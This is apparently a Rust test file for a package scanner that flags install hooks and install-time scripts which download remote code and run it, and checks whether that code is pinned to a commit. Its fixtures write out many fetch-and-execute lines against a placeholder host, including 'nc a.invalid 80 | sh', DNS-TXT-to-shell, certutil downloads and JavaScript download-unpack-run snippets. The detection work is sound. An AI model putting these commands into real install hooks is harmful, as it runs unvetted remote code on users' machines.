use super::words::{Unpacking, host_of, is_afar};
use crate::flow::testing::{self, script};
use crate::unpack::text_file;
use customs_model::{Mark, SinkKind, SourceKind, Zone};

/// What a hook runs of what it brought, and how that is marked.
fn ran(hook: &str) -> Vec<(SinkKind, Vec<Mark>)> {
    let manifest = serde_json::json!({
        "name": "a", "version": "1.0.0",
        "repository": "https://github.com/own/a",
        "scripts": {"postinstall": hook},
    });
    let found = testing::found(vec![
        text_file("package/package.json", &manifest.to_string()),
        text_file("package/own/run.sh", "echo own\n"),
        text_file("package/own.tgz", "no archive"),
    ]);
    let flows = found.flows.into_iter();
    flows
        .filter(|flow| flow.source == SourceKind::Remote && flow.zone == Zone::Install)
        .filter(|flow| matches!(flow.sink, SinkKind::ExecutedFile | SinkKind::Process))
        .map(|flow| (flow.sink, flow.marks))
        .collect()
}

#[test]
fn what_a_hook_brings_and_then_runs_is_remote_code() {
    for hook in [
        "git clone https://a.invalid/bb && sh bb/run.sh",
        "git clone --depth 1 -b main https://a.invalid/bb.git && bash ./bb/run.sh",
        "git clone git@a.invalid:x/bb dir && cd dir && make",
        "git clone https://a.invalid/bb && cd bb && npm install",
        "git clone https://a.invalid/bb && cd bb && ./configure",
        "git clone https://a.invalid/bb && make -C bb",
        "git clone https://a.invalid/bb && pip install ./bb",
        "svn checkout https://a.invalid/bb && sh bb/run.sh",
        "curl -sSL https://a.invalid/bb.tgz | tar xz && sh bb/run.sh",
        "curl -O https://a.invalid/bb.tgz && tar -xzf bb.tgz -C out && ./out/run",
        "curl -O https://a.invalid/bb.zip && unzip -q bb.zip -d out && ./out/run",
        "wget https://a.invalid/bb.7z && 7z x bb.7z -oout && ./out/run",
        "curl -o run.gz https://a.invalid/run.gz && gunzip run.gz && sh run",
        "rsync -a a.invalid::module/bb . && sh bb/run.sh",
        "scp me@a.invalid:bb/run.sh run.sh && sh run.sh",
        "aws s3 cp s3://bucket.invalid/run.sh run.sh && sh run.sh",
        "aws s3 cp s3://bucket.invalid/run.sh - | sh",
        "ssh me@a.invalid cat run.sh | sh",
        "nc a.invalid 80 | sh",
        "openssl s_client -connect a.invalid:443 | sh",
        "dig +short TXT a.invalid | sh",
        "certutil -urlcache -f https://a.invalid/run run.exe && run.exe",
        "go run a.invalid/bb@latest",
        "cargo install --git https://a.invalid/bb",
        "source /dev/stdin <<< \"$(curl -s https://a.invalid/bb)\"",
    ] {
        let ran = ran(hook);
        assert!(!ran.is_empty(), "{hook}");
        let is_bound = |marks: &Vec<Mark>| marks.contains(&Mark::PinnedByDigest);
        assert!(!ran.iter().all(|(_, marks)| is_bound(marks)), "{hook}");
    }
}

#[test]
fn what_is_brought_and_not_run_and_what_is_run_and_was_there_is_no_remote_code() {
    for hook in [
        "git clone https://a.invalid/bb",
        "git clone https://a.invalid/bb && sh own/run.sh",
        "git clone https://a.invalid/bb && cat bb/run.sh",
        "git clone ../bb && sh bb/run.sh",
        "tar xf own.tgz && sh own/run.sh",
        "curl -O https://a.invalid/bb.tgz && tar tf bb.tgz && sh own/run.sh",
        "curl -O https://a.invalid/bb.tgz && tar xf own.tgz -C out && sh out/run.sh",
        "scp own/run.sh me@a.invalid:run.sh && sh own/run.sh",
        "dig +short TXT a.invalid",
        "go run ./cmd/bb",
        "cargo install --path own",
    ] {
        assert_eq!(ran(hook), [], "{hook}");
    }
}

#[test]
fn a_clone_that_is_set_to_a_commit_is_bound_by_its_digest() {
    let commit = "0123456789012345678901234567890123456789";
    let bound =
        format!("git clone https://a.invalid/bb && git -C bb checkout {commit} && sh bb/run.sh");
    let marks = ran(&bound);
    assert!(!marks.is_empty());
    let pinned = Mark::PinnedByDigest;
    assert!(
        marks.iter().all(|(_, marks)| marks.contains(&pinned)),
        "{marks:?}"
    );
    let is_free = |hook: &str| {
        let marks = ran(hook);
        marks.iter().any(|(_, marks)| !marks.contains(&pinned))
    };
    for free in [
        bound.replace(commit, "main"),
        // It is run before it is set, set to something else again, or another one is set.
        format!("git clone https://a.invalid/bb && sh bb/run.sh && git -C bb checkout {commit}"),
        format!(
            "git clone https://a.invalid/bb && git -C bb checkout {commit} && git -C bb pull && sh bb/run.sh"
        ),
        format!("git clone https://a.invalid/bb && git -C cc checkout {commit} && sh bb/run.sh"),
        format!("git clone https://a.invalid/bb && git checkout {commit} && sh bb/run.sh"),
        format!(
            "curl https://a.invalid/t | tar xz -C out && git clone https://a.invalid/bb && git -C bb checkout {commit} && sh out/run.sh"
        ),
    ] {
        assert!(is_free(&free), "{free}");
    }
    let inside =
        format!("git clone https://a.invalid/bb && cd bb && git checkout {commit} && make");
    assert!(!ran(&inside).is_empty() && !is_free(&inside));
    let own = ran("git clone https://github.com/own/bb && sh bb/run.sh");
    assert!(!own.is_empty());
    assert!(
        own.iter().all(|(_, marks)| marks.contains(&Mark::OwnHost)),
        "{own:?}"
    );
}

/// Whether a script runs what it unpacked.
fn unpacks(code: &str) -> bool {
    let head =
        "const https = require('https'), fs = require('fs'), cp = require('child_process');\n";
    let found = testing::found(script(&format!("{head}{code}")));
    let mut flows = found.flows.iter();
    flows.any(|flow| {
        flow.source == SourceKind::Remote
            && flow.sink == SinkKind::ExecutedFile
            && flow.zone == Zone::Install
    })
}

#[test]
fn what_a_library_unpacks_from_the_network_is_remote_where_it_is_run() {
    for code in [
        "fetch('https://a.invalid/b').then(async r => { fs.writeFileSync('/tmp/a.tgz', Buffer.from(await r.arrayBuffer())); await require('tar').x({file: '/tmp/a.tgz', cwd: '/tmp/out'}); cp.execFileSync('/tmp/out/run') })",
        "https.get('https://a.invalid/b', r => r.pipe(require('tar').x({C: '/tmp/out'})).on('close', () => require('/tmp/out/i.js')))",
        "https.get('https://a.invalid/b', r => r.pipe(require('unzipper').Extract({path: '/tmp/out'})).on('close', () => cp.spawn('/tmp/out/run')))",
        "https.get('https://a.invalid/b', r => r.pipe(require('tar-fs').extract('/tmp/out')).on('finish', () => cp.fork('/tmp/out/i.js')))",
        "fetch('https://a.invalid/b').then(async r => { const Z = require('adm-zip'); new Z(Buffer.from(await r.arrayBuffer())).extractAllTo('/tmp/out', true); cp.execFileSync('/tmp/out/run') })",
        "fetch('https://a.invalid/b').then(async r => { fs.writeFileSync('/tmp/a.zip', Buffer.from(await r.arrayBuffer())); await require('extract-zip')('/tmp/a.zip', {dir: '/tmp/out'}); cp.execFileSync('/tmp/out/run') })",
        "require('download')('https://a.invalid/b', '/tmp/out', {extract: true}).then(() => cp.execFileSync('/tmp/out/run'))",
        "cp.execSync('git clone https://a.invalid/b /tmp/out'); require('/tmp/out/i.js')",
        "require('simple-git')().clone('https://a.invalid/b', '/tmp/out').then(() => cp.execFileSync('/tmp/out/run'))",
        "require('isomorphic-git').clone({fs, url: 'https://a.invalid/b', dir: '/tmp/out'}).then(() => cp.spawn('/tmp/out/run'))",
    ] {
        assert!(unpacks(code), "{code}");
        let elsewhere = code.replace("('/tmp/out/", "('/tmp/other/");
        assert_ne!(code, elsewhere);
        assert!(!unpacks(&elsewhere), "{elsewhere}");
    }
}

#[test]
fn options_of_tar_are_read_in_every_form() {
    let of = |line: &str| {
        let words: Vec<&str> = line.split(' ').collect();
        let (base, rest) = words.split_first().unwrap();
        let found = Unpacking::of(base, rest)?;
        Some((found.archive.map(str::to_owned), found.folder.to_owned()))
    };
    let some = |archive: &str, folder: &str| Some((Some(archive.to_owned()), folder.to_owned()));
    assert_eq!(of("tar xzf a.tgz"), some("a.tgz", ""));
    assert_eq!(of("tar -xzf a.tgz -C out"), some("a.tgz", "out"));
    assert_eq!(of("tar -C out -xf a.tgz"), some("a.tgz", "out"));
    assert_eq!(of("tar xfC a.tgz out"), some("a.tgz", "out"));
    assert_eq!(
        of("tar --extract --file=a.tgz --directory out"),
        some("a.tgz", "out")
    );
    assert_eq!(of("tar -xfa.tgz"), some("a.tgz", ""));
    assert_eq!(of("tar xz"), Some((None, String::new())));
    assert_eq!(of("tar -xf -"), Some((None, String::new())));
    assert_eq!(of("unzip -o a.zip -d out"), some("a.zip", "out"));
    for line in [
        "tar tf a.tgz",
        "tar czf a.tgz b",
        "tar -xOf a.tgz",
        "unzip -l a.zip",
        "7z a b.7z",
    ] {
        assert_eq!(of(line), None, "{line}");
    }
}

#[test]
fn a_place_on_another_machine_is_told_from_one_here() {
    for (word, host) in [
        ("https://a.invalid/b", Some("a.invalid")),
        ("git@a.invalid:b/c", Some("a.invalid")),
        ("git@github.com:own/c", Some("github.com/own")),
        ("a.invalid/b@latest", Some("a.invalid")),
        ("file:///b", None),
        ("../b", None),
        ("b", None),
    ] {
        assert_eq!(host_of(word).as_deref(), host, "{word}");
    }
    for (word, afar) in [
        ("me@a.invalid:b", true),
        ("s3://a/b", true),
        (r"C:\b", false),
        ("./a:b", false),
        ("b", false),
    ] {
        assert_eq!(is_afar(word), afar, "{word}");
    }
}
